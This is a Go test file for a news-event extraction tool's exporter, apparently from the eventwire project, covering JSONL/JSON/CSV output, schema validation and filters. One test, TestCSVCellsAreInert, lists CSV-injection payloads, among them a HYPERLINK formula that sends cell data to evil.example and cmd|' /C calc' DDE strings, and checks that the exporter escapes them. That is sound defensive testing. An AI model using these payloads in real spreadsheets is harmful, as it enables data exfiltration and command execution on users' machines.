package export

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/eventwire/eventwire/extract"
	"github.com/eventwire/eventwire/store"
)

var update = flag.Bool("update", false, "rewrite golden files")

func intp(i int) *int { return &i }

func sample() []store.Record {
	pub := time.Date(2025, 3, 12, 15, 40, 0, 0, time.FixedZone("KST", 9*3600))
	text := "SEOUL, March 12 (Korea Wire) -- Envoy Park Sung-ho met US officials in Busan on Wednesday about 1.1 trillion won ($756 million)."
	idx := func(s string) (int, int) { i := strings.Index(text, s); return i, i + len(s) }
	m := func(typ, s string) extract.Mention {
		a, b := idx(s)
		return extract.Mention{Type: typ, Text: s, Start: a, End: b, CStart: a, CEnd: b, Confidence: 0.9, Rule: typ + "/test"}
	}
	date := m("date", "Wednesday")
	date.Date = &extract.Date{TimexType: "DATE", Value: "2025-03-12", Range: &extract.Range{Start: "2025-03-12", End: "2025-03-12"}, Anchored: true}
	loc := m("location", "Busan")
	loc.Location = &extract.Location{Name: "Busan", Kind: "city", Country: "KR", GeonameID: 1838524}
	loc.Location.Lat, loc.Location.Lon = extract.Point(35.1028, 129.0403)
	per := m("official", "Park Sung-ho")
	per.Person = &extract.Person{Name: "Park Sung-ho", Entity: 1, Title: "Envoy", TitleSpan: &[2]int{32, 37}, Country: "KR"}
	won := m("amount", "1.1 trillion won")
	won.Amount = &extract.Amount{Kind: "money", Value: 1.1e12, Currency: "KRW", Approx: true}
	usd := m("amount", "$756 million")
	usd.Amount = &extract.Amount{Kind: "money", Value: 756e6, Currency: "USD", EquivalentOf: intp(3)}
	wire := m("organization", "Korea Wire")
	wire.Organization = &extract.Organization{Name: "Korea Wire", Kind: "media", Country: "KR", Entity: 1}
	korea := m("location", "Korea")
	korea.Location = &extract.Location{Name: "South Korea", Kind: "country", Country: "KR", Lat: ptr(36.5), Lon: ptr(127.75), Embedded: true}
	cameo, root := "040", "04"
	ev := extract.Event{Type: "meet", Cameo: &cameo, CameoRoot: &root, QuadClass: 1, Trigger: extract.Span{Text: "met", Start: 50, End: 53, CStart: 50, CEnd: 53},
		Sentence: extract.SentenceRef{I: 0, Start: 0, End: len(text)}, Who: []int{0}, When: []int{2}, Where: []int{1}, Amounts: []int{3, 4},
		Participants: []extract.Participant{{Mention: 0, Role: "agent"}}, WhenResolved: &extract.Resolved{Value: "2025-03-12"},
		Modality: extract.ModalityAsserted, Actor1: &extract.Actor{Name: "Park Sung-ho", Kind: "person", Country: "KR", Mention: 0},
		ActionGeo:  &extract.Geo{Name: "Busan", Country: "KR", Lat: ptr(35.1028), Lon: ptr(129.0403), Mention: 1, Source: "sentence"},
		Confidence: 0.8, Rule: "event/test"}
	// A second event in the same sentence, a statement by a pronoun that
	// resolves to Park, with no place of its own.
	ev2 := extract.Event{Type: "state", Cameo: &[]string{"010"}[0], CameoRoot: &[]string{"01"}[0], QuadClass: 1,
		Trigger: extract.Span{Text: "met", Start: 50, End: 53, CStart: 50, CEnd: 53}, Sentence: ev.Sentence,
		Who: []int{0}, When: []int{}, Where: []int{}, Amounts: []int{},
		Participants: []extract.Participant{{Mention: 0, Role: "agent", Span: &extract.Span{Text: "Envoy", Start: 32, End: 37, CStart: 32, CEnd: 37}}},
		Modality:     extract.ModalityFuture, Negated: true, Quoted: true, Actor1: &extract.Actor{Name: "Park Sung-ho", Kind: "person", Country: "KR", Mention: 0},
		Confidence: 0.5, Rule: "event/test2"}
	a := &store.Article{ID: store.ArticleID("https://a.example/1"), URL: "https://a.example/1", CanonicalURL: "https://a.example/1",
		Feed: store.FeedRef{ID: "1", URL: "https://a.example/rss", GUID: "g1"}, Title: "Talks", Byline: "By Lee", Published: pub,
		PublishedSource: "meta:article:published_time", FetchedAt: pub.Add(time.Minute), TextSHA256: strings.Repeat("ab", 32),
		TextSource: "page", Extractor: store.ExtractorInfo{Name: "eventwire-rules", Version: 1}, Text: text}
	ex := &store.Extraction{Extractor: a.Extractor, Mentions: []extract.Mention{per, loc, date, won, usd, wire, korea}, Events: []extract.Event{ev, ev2}}
	b := &store.Article{ID: store.ArticleID("https://b.example/2"), URL: "https://b.example/2", CanonicalURL: "https://b.example/2",
		Feed: store.FeedRef{ID: "2", URL: "https://b.example/rss"}, Title: "Feed only", FetchedAt: pub.Add(time.Hour),
		TextSHA256: strings.Repeat("cd", 32), TextSource: "feed", FetchError: "http: http status 503",
		Extractor: store.ExtractorInfo{Name: "eventwire-rules", Version: 1}, Text: "Short text."}
	return []store.Record{{Article: a, Extraction: ex}, {Article: b}}
}

func write(t *testing.T, o Options, recs []store.Record) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, o)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestGolden(t *testing.T) {
	for _, records := range []string{Articles, Mentions, Events, EventMentions} {
		for _, format := range []string{JSONL, JSON, CSV} {
			name := records + "." + format
			t.Run(name, func(t *testing.T) {
				got := write(t, Options{Format: format, Records: records}, sample())
				path := filepath.Join("testdata", name+".golden")
				if *update {
					if err := os.WriteFile(path, got, 0o644); err != nil {
						t.Fatal(err)
					}
				}
				want, err := os.ReadFile(path)
				if err != nil {
					t.Fatalf("%v (run with -update to create)", err)
				}
				if !bytes.Equal(got, want) {
					t.Errorf("%s differs from %s:\n%s", name, path, got)
				}
			})
		}
	}
}

func TestJSONLValidatesAgainstSchemas(t *testing.T) {
	v, err := NewValidator()
	if err != nil {
		t.Fatal(err)
	}
	for _, records := range []string{Articles, Mentions, Events, EventMentions} {
		out := write(t, Options{Records: records}, sample())
		sc := bufio.NewScanner(bytes.NewReader(out))
		sc.Buffer(nil, 1<<20)
		n := 0
		for sc.Scan() {
			n++
			if err := v.Validate(records, sc.Bytes()); err != nil {
				t.Errorf("%s record %d does not validate: %v\n%s", records, n, err, sc.Bytes())
			}
		}
		if n == 0 {
			t.Errorf("%s: no records written", records)
		}
	}
}

func TestSchemaRejectsBrokenRecords(t *testing.T) {
	v, err := NewValidator()
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct{ name, records, record string }{
		{"mention without span", Mentions, `{"record":"mention","schema":"eventwire/1","article":"0123456789abcdef0123456789abcdef","i":0,"extractor_version":1,"type":"date","text":"x","confidence":1,"rule":"r","timex_type":"DATE","value":"2025","anchored":false}`},
		{"money with bad currency", Mentions, `{"record":"mention","schema":"eventwire/1","article":"0123456789abcdef0123456789abcdef","i":0,"extractor_version":1,"type":"amount","text":"x","start":0,"end":1,"cstart":0,"cend":1,"sentence":0,"confidence":1,"rule":"r","kind":"money","value":1,"currency":"dollars"}`},
		{"event of wrong record kind", Events, `{"record":"article","schema":"eventwire/1"}`},
		{"range end with a bare hour", Mentions, `{"record":"mention","schema":"eventwire/1","article":"0123456789abcdef0123456789abcdef","i":0,"extractor_version":1,"type":"date","text":"1-3 pm","start":0,"end":6,"cstart":0,"cend":6,"sentence":0,"confidence":1,"rule":"r","timex_type":"TIME","value":"2018-12-17T13:00","range":{"start":"2018-12-17T13:00","end":"2018-12-17T15"},"anchored":true}`},
		{"event with an unknown modality", Events, `{"record":"event","schema":"eventwire/1","article":"0123456789abcdef0123456789abcdef","i":0,"source_url":"u","extractor_version":4,"type":"meet","cameo":"040","trigger":{"text":"met","start":0,"end":3,"cstart":0,"cend":3},"sentence":{"i":0,"start":0,"end":3},"who":[],"when":[],"where":[],"amounts":[],"participants":[],"modality":"rumoured","confidence":0.5,"rule":"r"}`},
		{"event mention in an unknown slot", EventMentions, `{"record":"event-mention","schema":"eventwire/1","article":"0123456789abcdef0123456789abcdef","event":0,"slot":"how","mention":0,"mention_type":"date","mention_text":"x","extractor_version":4}`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if err := v.Validate(tc.records, []byte(tc.record)); err == nil {
				t.Errorf("Validate(%s) accepted a broken record", tc.record)
			}
		})
	}
}

// A span of clock times carries date-times in its range (DESIGN's range
// extended, see extract.Range).
func TestSchemaAcceptsClockRange(t *testing.T) {
	v, err := NewValidator()
	if err != nil {
		t.Fatal(err)
	}
	rec := `{"record":"mention","schema":"eventwire/1","article":"0123456789abcdef0123456789abcdef","i":0,"extractor_version":1,"type":"date","text":"1-3 pm Monday","start":0,"end":13,"cstart":0,"cend":13,"sentence":0,"confidence":1,"rule":"r","timex_type":"TIME","value":"2018-12-17T13:00","range":{"start":"2018-12-17T13:00","end":"2018-12-17T15:00"},"anchored":true}`
	if err := v.Validate(Mentions, []byte(rec)); err != nil {
		t.Errorf("Validate(%s): %v", rec, err)
	}
}

func TestCSVShape(t *testing.T) {
	out := write(t, Options{Format: CSV, Records: Events}, sample())
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// One header, then one row per event: a GROUP BY type counts events.
	if len(rows) != 1+2 {
		t.Fatalf("event CSV has %d rows, want 3:\n%s", len(rows), out)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	types := map[string]int{}
	for _, r := range rows[1:] {
		if len(r) != len(rows[0]) {
			t.Errorf("row has %d cells, header %d", len(r), len(rows[0]))
		}
		types[r[col["type"]]]++
		for _, cell := range r {
			if strings.Contains(cell, "[") || strings.Contains(cell, ";") {
				t.Errorf("cell %q looks like a delimited list", cell)
			}
		}
	}
	if types["meet"] != 1 || types["state"] != 1 {
		t.Errorf("events by type = %v, want one meet and one state", types)
	}
	meet := rows[1]
	for c, want := range map[string]string{"cameo": "040", "cameo_root": "04", "quad_class": "1", "modality": "asserted",
		"actor1_name": "Park Sung-ho", "actor1_kind": "person", "actor1_mention": "0", "actor2_name": "",
		"action_geo_name": "Busan", "action_geo_lat": "35.1028", "action_geo_source": "sentence",
		"when_value": "2025-03-12", "amount_value": "1100000000000", "amount_currency": "KRW", "amount_mention": "3"} {
		if got := meet[col[c]]; got != want {
			t.Errorf("meet row %s = %q, want %q", c, got, want)
		}
	}
	state := rows[2]
	if state[col["negated"]] != "true" || state[col["modality"]] != "future" || state[col["quoted"]] != "true" || state[col["action_geo_name"]] != "" {
		t.Errorf("state row = %v, want negated, future, quoted, no place", state)
	}
}

func TestEventMentionsCSV(t *testing.T) {
	out := write(t, Options{Format: CSV, Records: EventMentions}, sample())
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	var refs []string
	for _, r := range rows[1:] {
		refs = append(refs, r[col["event"]]+"/"+r[col["slot"]]+":"+r[col["mention"]]+":"+r[col["role"]]+":"+r[col["span_text"]])
	}
	// The meet: who 1 + when 1 + where 1 + amounts 2; the statement: who 1,
	// with the words that stood for Park.
	want := "0/who:0:agent: 0/when:2:: 0/where:1:: 0/amount:3:: 0/amount:4:: 1/who:0:agent:Envoy"
	if got := strings.Join(refs, " "); got != want {
		t.Errorf("event-mention rows = %q, want %q", got, want)
	}
	if rows[1][col["mention_type"]] != "official" || rows[1][col["mention_text"]] != "Park Sung-ho" {
		t.Errorf("first row = %v, want the official Park Sung-ho", rows[1])
	}
}

func TestFiltersAndNoText(t *testing.T) {
	out := write(t, Options{Records: Mentions, Types: []string{"amount"}}, sample())
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(lines) != 2 {
		t.Fatalf("amount mentions = %d lines, want 2:\n%s", len(lines), out)
	}
	var m map[string]any
	json.Unmarshal([]byte(lines[1]), &m)
	if m["equivalent_of"] != float64(3) || m["currency"] != "USD" || m["i"] != float64(4) {
		t.Errorf("second amount = %v, want USD equivalent_of 3 with i 4", m)
	}
	out = write(t, Options{Records: Articles, NoText: true}, sample())
	if bytes.Contains(out, []byte(`"text":"SEOUL`)) || bytes.Contains(out, []byte(`"text":"Short`)) {
		t.Errorf("--no-text output still has article text:\n%s", out)
	}
	if !bytes.Contains(out, []byte(`"text":"Busan"`)) {
		t.Errorf("--no-text dropped mention texts too:\n%s", out)
	}
}

func TestSpansHoldInExport(t *testing.T) {
	out := write(t, Options{Records: Articles}, sample())
	var rec struct {
		Text     string `json:"text"`
		Mentions []struct {
			Text       string `json:"text"`
			Start, End int
		} `json:"mentions"`
	}
	line, _, _ := bytes.Cut(out, []byte("\n"))
	if err := json.Unmarshal(line, &rec); err != nil {
		t.Fatal(err)
	}
	for _, m := range rec.Mentions {
		if rec.Text[m.Start:m.End] != m.Text {
			t.Errorf("text[%d:%d] = %q, mention says %q", m.Start, m.End, rec.Text[m.Start:m.End], m.Text)
		}
	}
}

func TestBadOptions(t *testing.T) {
	for _, o := range []Options{{Format: "xml"}, {Records: "people"}} {
		if _, err := NewWriter(&bytes.Buffer{}, o); err == nil {
			t.Errorf("NewWriter(%+v) accepted bad options", o)
		}
	}
}

func BenchmarkExportJSONL(b *testing.B) {
	recs := sample()
	w, _ := NewWriter(&bytes.Buffer{}, Options{})
	var buf bytes.Buffer
	b.ReportAllocs()
	for b.Loop() {
		buf.Reset()
		w, _ = NewWriter(&buf, Options{})
		for _, r := range recs {
			w.Write(r)
		}
		w.Close()
	}
	_ = fmt.Sprint(w.Count())
}

// TestStoredJSONPassThrough checks that records streamed from stored JSON,
// which skip decoding mentions, are byte for byte the decoded path's output.
func TestStoredJSONPassThrough(t *testing.T) {
	for _, records := range []string{Articles, Mentions, Events, EventMentions} {
		for _, types := range [][]string{nil, {"amount", "meet"}} {
			t.Run(fmt.Sprint(records, types), func(t *testing.T) {
				var raw []store.Record
				for _, r := range sample() {
					rr := store.Record{Article: r.Article}
					if r.Extraction != nil {
						b, err := json.Marshal(r.Extraction)
						if err != nil {
							t.Fatal(err)
						}
						rr.ExtractionJSON = b
					}
					raw = append(raw, rr)
				}
				o := Options{Records: records, Types: types}
				want, got := write(t, o, sample()), write(t, o, raw)
				if !bytes.Equal(got, want) {
					t.Errorf("pass-through output differs:\n got %s\nwant %s", got, want)
				}
			})
		}
	}
}

// TestCSVCellsAreInert: cells that a spreadsheet would run as a formula
// are escaped with a leading apostrophe (OWASP, CSV injection); plain
// numbers, negative ones included, stay numbers.
func TestCSVCellsAreInert(t *testing.T) {
	recs := sample()
	a := recs[0].Article
	a.Title = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	a.Byline = "+cmd|' /C calc'!A0"
	a.FetchError = "@SUM(1+1)*cmd|' /C calc'!A0"
	a.Feed.GUID = "-2+3+cmd|' /C calc'!A0"
	a.Lang = "\tlead tab"
	a.PublishedSource = "\r=1+1"
	ex := recs[0].Extraction
	ex.Mentions[1].Location.Lon = ptr(-73.5)
	ex.Mentions[1].Location.Name = "=1+2"
	want := map[string]string{
		a.Title:                `'` + a.Title,
		a.Byline:               `'` + a.Byline,
		a.FetchError:           `'` + a.FetchError,
		a.Feed.GUID:            `'` + a.Feed.GUID,
		a.Lang:                 `'` + a.Lang,
		a.PublishedSource:      `'` + a.PublishedSource,
		"=1+2":                 "'=1+2",
		"-73.5":                "-73.5",
		"-2":                   "-2",
		"1.1 trillion won":     "1.1 trillion won",
		"-0x1p3":               "'-0x1p3",
		"+5":                   "+5",
		"-.5":                  "'-.5",
		"-1e5":                 "'-1e5",
		"Park Sung-ho (Envoy)": "Park Sung-ho (Envoy)",
		"+09:00":               "+09:00",
		"-05:30":               "-05:30",
		"+09:00=1":             "'+09:00=1",
		"-5:00":                "'-5:00",
	}
	for in, out := range want {
		if got := inert([]string{in})[0]; got != out {
			t.Errorf("inert(%q) = %q, want %q", in, got, out)
		}
	}
	for _, records := range []string{Articles, Mentions, Events, EventMentions} {
		out := write(t, Options{Format: CSV, Records: records}, recs)
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		lon := false
		for _, r := range rows[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isDecimal(cell) && !isOffset(cell) {
					t.Errorf("%s CSV: cell %q would run as a formula", records, cell)
				}
				lon = lon || cell == "-73.5"
			}
		}
		if records == Mentions && !lon {
			t.Errorf("mentions CSV: the longitude -73.5 is missing or was escaped:\n%s", out)
		}
		if records == Articles && !bytes.Contains(out, []byte(`'=HYPERLINK(`)) {
			t.Errorf("articles CSV: the title is not escaped:\n%s", out)
		}
	}
}

// TestInlineMentionsCarryIndex: the mentions and events inside an article
// record carry "i", their index in the article, which the events' who,
// when, where and amounts refer to; a --type filter keeps the indexes.
func TestInlineMentionsCarryIndex(t *testing.T) {
	out := write(t, Options{Records: Articles, NoText: true, Types: []string{"amount"}}, sample())
	var a struct {
		Mentions []map[string]any `json:"mentions"`
		Events   []map[string]any `json:"events"`
	}
	json.Unmarshal([]byte(strings.SplitN(string(out), "\n", 2)[0]), &a)
	if len(a.Mentions) != 2 || a.Mentions[0]["i"] != float64(3) || a.Mentions[1]["i"] != float64(4) {
		t.Errorf("inline amount mentions = %v, want i 3 and 4", a.Mentions)
	}
	if len(a.Events) != 2 || a.Events[0]["i"] != float64(0) || a.Events[1]["i"] != float64(1) {
		t.Errorf("inline events = %v, want two with i 0 and 1", a.Events)
	}
}

func ptr(f float64) *float64 { return &f }
